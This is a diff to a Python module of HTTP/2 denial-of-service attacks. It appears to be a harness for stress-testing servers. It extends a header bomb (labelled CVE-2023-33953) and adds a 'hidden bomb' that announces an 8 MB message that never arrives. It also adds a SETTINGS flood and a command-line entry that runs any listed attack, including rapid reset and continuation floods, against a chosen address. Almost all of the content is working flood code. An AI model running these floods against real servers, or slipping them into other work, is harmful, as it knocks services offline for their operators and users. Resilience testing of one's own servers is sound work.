@@ -6,6 +6,7 @@ An attack ends early only by its time: a refused or closed connection is counted
 """
 import socket
 import struct
+import sys
 import time
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
@@ -141,14 +142,15 @@ class Flooder:
     def send(self, data):
         """False when the connection is closed, or the time over."""
         view = memoryview(data)
-        self.sock.settimeout(0.2)
         while view:
             if self.over():
                 return False
+            self.sock.settimeout(0.02)
             try:
                 view = view[self.sock.send(view):]
             except socket.timeout:
-                pass
+                if not is_open(self.sock):
+                    return False
             except OSError:
                 return False
         self.counts["bytes"] += len(data)
@@ -197,17 +199,35 @@ def continuation_flood(host, port, seconds, method=GENERATE, name_bytes=16):
     return flooder.counts
 
 
-def header_bomb(host, port, seconds, method=GENERATE, announced=1 << 30):
-    """One header value of a gigabyte, sent in pieces (CVE-2023-33953)."""
+def header_bomb(host, port, seconds, method=GENERATE, announced=1 << 30, first=b"", stream=1):
+    """One header value of a gigabyte, sent in pieces (CVE-2023-33953), after the frames `first`."""
     flooder = Flooder(host, port, seconds)
     flooder.counts["frames"] = 0
     begin = call_headers(method) + b"\0" + hpack_length(1, 7) + b"x" + hpack_length(announced, 7)
-    more = frame(CONTINUATION, 0, 1, b"a" * 16384)
+    more = frame(CONTINUATION, 0, stream, b"a" * 16384)
     while not flooder.over():
-        if not flooder.open() or not flooder.send(frame(HEADERS, 0, 1, begin)):
+        if not flooder.open() or not flooder.send(first + frame(HEADERS, 0, stream, begin)):
             continue
         while flooder.send(more):
             flooder.counts["frames"] += 1
+    flooder.close()
+    return flooder.counts
+
+
+def hidden_bomb(host, port, seconds, method=GENERATE):
+    """A header bomb on a connection that has announced a message of 8 MB, which never comes."""
+    call = frame(HEADERS, END_HEADERS, 1, call_headers(method)) + frame(DATA, 0, 1, b"\0" + struct.pack(">I", 8 << 20))
+    return header_bomb(host, port, seconds, method, first=call, stream=3)
+
+
+def settings_flood(host, port, seconds):
+    """Settings, each of which wants to be acknowledged."""
+    flooder = Flooder(host, port, seconds)
+    more = frame(SETTINGS, 0, 0) * 1000
+    while not flooder.over():
+        if flooder.open():
+            while flooder.send(more):
+                pass
     flooder.close()
     return flooder.counts
 
@@ -286,4 +306,9 @@ def frame_flood(host, port, seconds, message=b"\x08\x01", method=CONNECT):
 
 
 ALL = {"idle": idle_connections, "greeting": greeting_connections, "rapid_reset": rapid_reset,
-       "continuation": continuation_flood, "header_bomb": header_bomb, "frame_flood": frame_flood}
+       "continuation": continuation_flood, "header_bomb": header_bomb, "hidden_bomb": hidden_bomb,
+       "settings": settings_flood, "frame_flood": frame_flood}
+
+
+if __name__ == "__main__":  # NAME ADDRESS SECONDS, as a process of its own
+    print(ALL[sys.argv[1]](*address_of(sys.argv[2]), float(sys.argv[3])))
